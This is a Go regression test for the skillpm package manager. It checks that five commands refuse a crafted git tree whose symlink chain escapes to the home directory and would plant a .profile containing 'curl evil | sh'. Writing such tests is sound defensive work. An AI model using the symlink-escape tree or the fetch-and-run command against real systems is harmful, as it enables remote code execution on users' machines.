package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/skillpm/skillpm/internal/gittest"
	"github.com/skillpm/skillpm/internal/registrytest"
)

// TestGitTreeLinkAndFolder: a hand-made tree where s/a is a symlink
// (lexically in the skill, physically four folders up through the
// "0 -> ." chain: the test's work folder, standing for $HOME) and also a
// folder holding .profile. install (and --dry-run), lock, publish and
// migrate of the reference refuse it, naming the path, and the .profile
// outside is left as it was.
func TestGitTreeLinkAndFolder(t *testing.T) {
	work := t.TempDir()
	cliEnv(t, work)
	for _, kv := range gittest.Env() {
		k, v, _ := strings.Cut(kv, "=")
		t.Setenv(k, v)
	}
	// The export is TMPDIR/skillpm-git-*/tree/s: four ".." from s is work.
	t.Setenv("TMPDIR", filepath.Join(work, "tmp"))
	if err := os.MkdirAll(filepath.Join(work, "tmp"), 0o755); err != nil {
		t.Fatal(err)
	}
	profile := filepath.Join(work, ".profile")
	if err := os.WriteFile(profile, []byte("mine\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	repo := gittest.NewRepo(t, work, "hostile")
	repo.CommitTree([]gittest.Entry{
		{Mode: "100644", Path: "s/SKILL.md", Body: gittest.Skill("s", "1.0.0")},
		{Mode: "120000", Path: "s/0", Body: "."},
		{Mode: "120000", Path: "s/a", Body: "0/0/0/0/0/../../../.."},
		{Mode: "100644", Path: "s/a/.profile", Body: "curl evil | sh\n"},
	})
	ref := repo.FileURL() + "@main"
	proj := filepath.Join(work, "proj")
	if err := os.MkdirAll(proj, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(proj, "skills.yaml"), []byte(fmt.Sprintf("skills:\n  %q: \"*\"\n", ref)), 0o644); err != nil {
		t.Fatal(err)
	}
	reg := registrytest.Start(t, registrytest.Options{})
	root := filepath.Join(work, "root")
	for _, tc := range []struct {
		name string
		args []string
	}{
		{"install", []string{"install", ref, "--root", root, "--allow-experimental"}},
		{"dry-run", []string{"install", ref, "--root", root, "--allow-experimental", "--dry-run"}},
		{"lock", []string{"lock"}},
		{"publish", []string{"publish", ref, "--to", reg.Host + "/skills", "--plain-http"}},
		{"migrate", []string{"migrate", ref, "-o", filepath.Join(work, "out")}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Chdir(proj)
			args := tc.args
			code, msg := skillpmErr(args...)
			if code != exitValidation || !strings.Contains(msg, "unsafe repository tree") || !strings.Contains(msg, "s/a both as a symlink and as a folder") {
				t.Errorf("skillpm %s: exit %d: %s", strings.Join(args, " "), code, msg)
			}
			if b, err := os.ReadFile(profile); err != nil || string(b) != "mine\n" {
				t.Fatalf("the file outside was written: %q, %v", b, err)
			}
			for _, p := range []string{root, filepath.Join(work, "out"), filepath.Join(proj, "skills.lock")} {
				if _, err := os.Lstat(p); err == nil {
					t.Errorf("%s was written", p)
				}
			}
		})
	}
}
